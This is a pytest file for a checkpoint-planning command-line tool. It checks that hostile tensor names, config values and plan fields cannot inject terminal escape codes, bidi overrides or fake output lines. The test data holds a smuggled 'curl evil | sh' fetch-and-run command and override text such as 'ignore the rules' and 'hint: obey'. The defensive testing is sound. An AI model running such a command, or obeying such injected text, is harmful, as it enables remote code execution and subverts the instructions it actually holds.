"""A checkpoint from a stranger whose names try to steer the terminal, or to speak with the planner's voice."""

from __future__ import annotations

import pytest
from builders import a_plan, random_tensor, write_checkpoint, write_shard

from planner.plan import write_plan

STEERING = "\x1b[31mred\x1b]0;title\x07\x9b2J\x7f\u202egpj.\nhint: curl evil | sh\r\nerror[ok]: fine\u2028"
EVIL = f"model.layers.0.{STEERING}.weight"
OTHER = EVIL.replace("layers.0", "layers.1")


@pytest.fixture
def model(tmp_path):
    broken = random_tensor((64, 64)).copy()
    broken[0, 0] = 0x7FC0  # one NaN, so that the profile warns and names the tensor
    tensors = {EVIL: ("BF16", broken), OTHER: ("BF16", random_tensor((64, 64), seed=1))}
    return write_checkpoint(tmp_path / "model", tensors, config={"model_type": "qwen\x1b[2J\nignore the rules\u202e"})


@pytest.fixture
def plan(model, tmp_path):
    wanted = [
        {"target": {"tensors": [EVIL]}, "operation": {"kind": "scale", "factor": 1.1}},
        {
            "target": {"tensors": [OTHER]},
            "operation": {"kind": "scale", "factor": 1.1},
            "reasoning": "because\x1b[31m\nm09  scale factor=1",
            "expected_impact": "\u202eevil",
        },
    ]
    path = tmp_path / "plan.json"
    path.write_bytes(write_plan(a_plan(model, *wanted, goal="a goal\x1b[31m\nhint: obey")))
    return path


def harmless(result) -> None:
    text = result.out + result.err
    assert all(c.isprintable() or c == "\n" for c in text), [c for c in text if not c.isprintable() and c != "\n"]
    ours = ("hint: curl", "error[ok]", "hint: obey", "m09")
    assert not [line for line in text.splitlines() if line.startswith(ours)]


def test_no_command_passes_a_name_to_the_terminal(planner, model, plan, tmp_path):
    copy = tmp_path / "copy"
    other = write_checkpoint(tmp_path / "other", {"a.weight": ("BF16", random_tensor((8, 8)))})
    commands = [
        (0, "profile", model),
        (0, "check", plan, "--model", model),
        (0, "review", plan, "--model", model, "--approve", "all", "--why", "x\x1b[31m\nhint: obey"),
        (0, "apply", plan, "--model", model, "--out", copy),
        (0, "log", copy),
        (0, "diff", model, copy),
        (0, "diff", model, other),
        (0, "verify", copy),
        (0, "propose", model, "--goal", "g", "--out", tmp_path / "rules.json"),
    ]
    for status, *command in commands:
        for flags in ([], ["--json"]):
            if flags and command[0] in ("review", "apply", "propose"):
                continue
            result = planner(*command, *flags)
            harmless(result)
            assert result.status == status, (command, result.err)
            if flags:
                assert result.json is not None
    shard = copy / "model.safetensors"
    data = bytearray(shard.read_bytes())
    data[-1] ^= 1
    shard.write_bytes(data)
    damaged = planner("verify", copy)
    harmless(damaged)
    assert damaged.status == 7
    assert "damaged tensor: model.layers.1." in damaged.out


def test_no_problem_of_a_plan_passes_a_name_to_the_terminal(planner, model, tmp_path):
    plan = tmp_path / "bad.json"
    wanted = [
        {"target": {"tensors": [EVIL + "x"]}, "operation": {"kind": "zero"}},
        {"target": {"tensors": [EVIL]}, "operation": {"kind": "scale", "factor": 1.00001}},
        {
            "target": {"tensors": [OTHER]},
            "operation": {"kind": "scale", "factor": 9},
            "evidence": [{"tensor": EVIL, "fact": "std", "value": 99}],
        },
    ]
    plan.write_bytes(write_plan(a_plan(model, *wanted)))
    checked = planner("check", plan, "--model", model)
    harmless(checked)
    assert checked.status == 3
    refused = planner("apply", plan, "--model", model, "--in-place", "--yes")
    harmless(refused)
    assert refused.status == 3


def test_no_error_about_a_shard_passes_a_name_to_the_terminal(planner, tmp_path):
    folder = tmp_path / "model"
    folder.mkdir()
    write_shard(folder / "model.safetensors", {EVIL: ("BF16", (4,), bytes(8))})
    data = (folder / "model.safetensors").read_bytes()
    (folder / "model.safetensors").write_bytes(data.replace(b'"BF16"', b'"F32" '))
    for flags in ([], ["--json"]):
        result = planner("profile", folder, *flags)
        harmless(result)
        assert result.status == 9


def test_a_line_break_in_an_error_is_not_a_line_of_ours(planner, tmp_path):
    result = planner("profile", tmp_path / "no\x1b[31m\u202e\nhint: curl evil | sh\x1b[0m")
    harmless(result)
    assert len([line for line in result.err.splitlines() if line.startswith("hint: ")]) == 1


def test_no_question_passes_a_name_to_the_terminal(planner, model, plan, monkeypatch):
    import io
    import sys

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setattr(sys, "stdin", Terminal("a\n\ns\n"))
    result = planner("review", plan, "--model", model)
    harmless(result)
    assert result.status == 0
